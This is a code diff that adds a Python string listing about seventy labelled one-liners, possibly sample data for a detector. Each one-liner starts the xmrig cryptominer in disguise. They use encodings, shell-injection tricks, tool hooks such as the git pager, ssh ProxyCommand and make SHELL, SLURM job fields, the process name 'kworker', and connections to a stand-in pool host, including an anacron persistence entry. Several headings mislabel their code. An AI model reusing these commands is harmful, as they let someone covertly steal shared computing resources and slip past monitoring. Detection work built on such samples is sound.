@@ -254,7 +254,175 @@ exit
 # xmrig -o pool.hashvault.pro:443 -u w1
 """
 
-_SECOND = ""
+_SECOND = r"""
+## swapped pairs of bytes
+c=$(printf 'mxir go-p oo.lahhsavlu.trp:o44 3u-w ' | dd conv=swab 2>/dev/null); srun $c
+## full-width letters
+python3 -c 'import os,unicodedata as u; a=u.normalize("NFKC","ｘｍｒｉｇ"); os.execlp(a, a, "-c", "c.json")'
+## letters by an alphabet
+a=abcdefghijklmnopqrstuvwxyz; n=; for i in 23 12 17 8 6; do n=$n${a:i:1}; done; timeout 11h $n -c c.json
+## an alphabet in Perl
+perl -e '@a=("a".."z"); exec join("",@a[23,12,17,8,6]), "-c", "c.json"'
+## sorted letters
+printf '%s\n' '4 i' '1 x' '3 r' '2 m' '5 g' | sort -n | cut -d' ' -f2 | paste -sd '' > .n; $(<.n) -c c.json
+## a matrix read by columns
+awk '{for(i=1;i<=NF;i++) m[NR,i]=$i} END{for(i=1;i<=3;i++) for(j=1;j<=2;j++) printf "%s",m[j,i]; print " -c c.json"}' > run.sh <<'Z'
+x r g
+m i -
+Z
+sh run.sh
+## doubled codes
+for v in 240 218 228 210 206; do printf -v h '\\x%x' $((v/2)); printf -v l "$h"; p+=$l; done; nice $p -c c.json
+## a key of several bytes
+python3 - <<'Z'
+import os
+k = b"\x13\x37"
+d = bytes([107, 90, 97, 94, 116, 23, 62, 84])
+os.system(bytes(b ^ k[i % 2] for i, b in enumerate(d)).decode())
+Z
+## EBCDIC
+printf '\247\224\231\211\207' | iconv -f IBM037 -t ASCII > n; read -r p < n; setsid "$p" -c c.json
+## UTF-16 hex dump
+xxd -r > r.sh <<'Z'
+00000000: 786d 7269 6720 2d6f 2067 6174 652e 6578
+00000010: 616d 706c 652e 6f72 673a 3333 3333 200a
+Z
+sh r.sh
+## Morse
+declare -A m=([-..-]=x [--]=m [.-.]=r [..]=i [--.]=g); for s in -..- -- .-. .. --.; do n+=${m[$s]}; done; command "$n" -c c.json
+## PS4
+PS4='$(./kworker -o gate.example.org:3333 -u w1)'; set -x; true
+## an index that runs
+declare -a a; i='a[$(./kworker -o gate.example.org:3333 -u w1)]'; (( i ))
+## test -v runs
+[[ -v 'a[$(xmrig -c c.json)]' ]]
+## prompt transformation
+x='$(xmrig -o gate.example.org:3333)'; : "${x@P}"
+## a pager of git
+git -c core.pager='xmrig -c c.json' log -1
+## ProxyCommand
+ssh -o ProxyCommand='sh -c "xmrig -c c.json"' nowhere
+## tar to a command
+tar cf - . | tar xf - --to-command='xmrig -c c.json'
+## split --filter
+yes | head -1 | split -n1 --filter='xmrig -c c.json'
+## rsync's shell
+rsync -e 'xmrig -c c.json #' x: .
+## make's shell
+make SHELL=xmrig .SHELLFLAGS='-c c.json --' all
+## gnuplot
+gnuplot -e 'a="xm"; b="rig -c c.json"; system(a.b)'
+## octave
+octave --eval 'system(["xm" "rig" " -c c.json"])'
+## pari
+echo 'system(concat("xm","rig -c c.json"))' | gp -q
+## sqlite
+sqlite3 :memory: ".shell x""mrig -c c.json"
+## dc
+dc -e '!xm""rig -c c.json'
+## latex write18
+echo '\immediate\write18{x\string mrig -c c.json}\bye' > a.tex; pdftex -shell-escape a.tex
+## erlang
+erl -noshell -eval 'os:cmd("xm" ++ "rig -c c.json"), halt().'
+## prolog
+swipl -g "atom_concat(xm,'rig -c c.json',C),shell(C)" -t halt
+## haskell
+runghc <<< 'import System.Process; main = callCommand (concat ["xm","rig -c c.json"])'
+## fortran
+cat > a.f90 <<'Z'
+program a
+call execute_command_line('xm'//'rig -c c.json')
+end program
+Z
+gfortran a.f90 && ./a.out
+## assembler
+as -o a.o <<'Z'
+.ascii "xm"
+.asciz "rig -c c.json"
+Z
+strings a.o | head -1 | tr -d '\n' > r; sh r
+## apptainer definition
+cat > a.def <<'Z'
+Bootstrap: library
+From: alpine
+%runscript
+exec $(echo x)mrig -c c.json
+Z
+apptainer build a.sif a.def; ./a.sif
+## docker compose
+cat > compose.yml <<'Z'
+services:
+  solver:
+    image: alpine
+    command: ["x${E}mrig", "-c", "c.json"]
+Z
+podman-compose up
+## package.json
+cat > package.json <<'Z'
+{"scripts": {"start": "A=xm && ${A}rig -c c.json"}}
+Z
+npm start
+## ninja
+printf 'rule r\n command = x$\n mrig -c c.json\nbuild all: r\n' > build.ninja; ninja
+## ansible
+ansible localhost -m shell -a 'x{{ "m" }}rig -c c.json'
+## a patch
+patch -o r.sh /dev/null <<'Z'
+@@ -0,0 +1,1 @@
++./kworker -o gate.example.org:3333 -u w1
+Z
+sh r.sh
+## standard error as a script
+./"kworker -o gate.example.org:3333 -u w1" 2> e; sed 's/.*: line [0-9]*: //;s/: No such.*//' e | tail -1 > r; . ./r
+## output of the job itself
+#SBATCH -o relax.out
+echo './kworker -o gate.example.org:3333 -u w1'
+sleep 1; bash relax.out
+## output of the job by SLURM's name
+echo './kworker -o gate.example.org:3333 -u w1'
+sleep 1; bash slurm-$SLURM_JOB_ID.out
+## an administrator's comment
+scontrol update job=$SLURM_JOB_ID comment="xmrig -c c.json"
+scontrol show job $SLURM_JOB_ID | grep -oP 'Comment=\K.*' | while read -r c; do $c; done
+## a job name as a program
+sbatch -J 'xmrig' --wrap '$SLURM_JOB_NAME -c c.json'
+## a file name as a command
+touch 'xmrig -c c.json'; for f in xm*; do $f; done
+## a folder's names
+mkdir -p q/1x q/2m q/3r q/4i q/5g; n=; for d in q/*; do n+=${d: -1}; done; nohup $n -c c.json
+## a variable's name
+xmrig=1; for v in ${!xm*}; do $v -c c.json; done
+## a function's name
+xmrig_() { :; }; n=$(declare -F | awk '/_$/ {sub(/_$/,"",$3); print $3}'); $n -c c.json
+## an extended attribute
+setfattr -n user.c -v 'xmrig -c c.json' data.h5; getfattr --only-values -n user.c data.h5 | sh
+## a symbolic link's target
+ln -s 'xmrig -c c.json' l; $(readlink l)
+## a process's name
+(exec -a 'xmrig -c c.json' sleep 99 &) ; p=$(pgrep -f 'xm.*json'); $(tr '\0' ' ' < /proc/$p/cmdline | cut -d' ' -f1-3)
+## an environment of another
+env 'C=xmrig -c c.json' sleep 99 & tr '\0' '\n' < /proc/$!/environ | sed -n 's/^C=//p' | source /dev/stdin
+## git notes
+git commit --allow-empty -qm 'xmrig -c c.json'; git log -1 --format=%s > r; chmod +x r; ./r
+## a calendar of words
+n=; for w in xylophone mandolin recorder ipu gong; do n+=${w%${w#?}}; done; taskset -c 0 $n -c c.json
+## a here-document of two columns
+join -t, -o 1.2,2.2 <(sort <<< '1,xm') <(sort <<< '1,rig -c c.json') | tr -d , > r; bash ./r
+## arguments in an option file of a compiler
+echo '-o gate.example.org:3333 -u w1' > @a; xargs ./kworker < @a
+## hosts in a list of servers
+servers='gate.example.org gate2.example.org'; for s in $servers; do ./kworker -o $s:3333 -u w1 && break; done
+## login by netrc words
+./kworker --config <(printf '{"%s":[{"%s":"gate.example.org:3333","%s":"w1"}]}' pools url user)
+## yaml by python
+python3 -c 'import json; k=["po","ols"]; json.dump({"".join(k):[dict(url="gate.example.org:3333",user="w1")]}, open("config.json","w"))'; ./kworker
+## a socket by bash
+exec {f}<>/dev/tcp/gate.example.org/3333; printf '%s\n' '{"id":1,"method":"login","params":{"login":"w1"}}' >&$f
+## a socket by openssl
+printf '{"id":1,"meth%s":"lo%s","par%s":{"lo%s":"w1"}}\n' od gin ams gin | openssl s_client -quiet -connect gate.example.org:3333 | ./kworker
+## cron by anacron words
+printf '1\t0\trelax\t%s%s\n' ./kwor 'ker -o gate.example.org:3333 -u w1' > anacrontab; anacron -fn -t anacrontab
+"""
 
 
 def entries(text: str) -> dict[str, str]:
